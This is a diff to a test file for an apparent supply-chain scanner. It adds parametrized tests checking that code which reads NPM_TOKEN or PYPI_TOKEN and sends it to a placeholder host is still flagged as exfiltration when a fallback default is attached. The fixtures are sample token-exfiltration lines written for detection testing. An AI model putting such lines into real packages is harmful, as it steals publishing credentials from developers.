@@ -1,5 +1,7 @@
 """What is used is told from what is only named; what is decoded before it is used says so."""
 
+import pytest
+
 from tests.code.reading import facts
 
 SET_UP = "demo-1.0/setup.py"
@@ -172,3 +174,20 @@ def test_a_page_that_is_read_is_prose_and_a_joined_command_is_not() -> None:
     assert all("mention" in one.tags for one in found.get("exec/install-package", []))  # type: ignore[attr-defined]
     found = installed("os.system('pip ' + 'install ' + 'tool')\nsetup(name='demo')\n")
     assert not any("mention" in one.tags for one in found["exec/install-package"])  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize("default", ["|| ''", "|| 'none'", "?? 'none'", "|| []", "?? {}"])
+def test_a_default_of_javascript_does_not_hide_what_it_stands_in_for(default):
+    code = f"const t = process.env.NPM_TOKEN {default}\nfetch('https://a.invalid/' + t)\n"
+    found = facts({"package/index.js": code}, {"package/index.js": "import"}, "npm")
+    assert "net/exfil-chain" in found
+
+
+@pytest.mark.parametrize("default", ["or ''", "or 'none'"])
+def test_a_default_of_python_does_not_hide_what_it_stands_in_for(default):
+    code = (
+        "import os, urllib.request as u\n"
+        f"u.urlopen('https://a.invalid/' + (os.environ.get('PYPI_TOKEN') {default}))\n"
+    )
+    found = facts({"tide/__init__.py": code}, {"tide/__init__.py": "import"})
+    assert "net/exfil-chain" in found
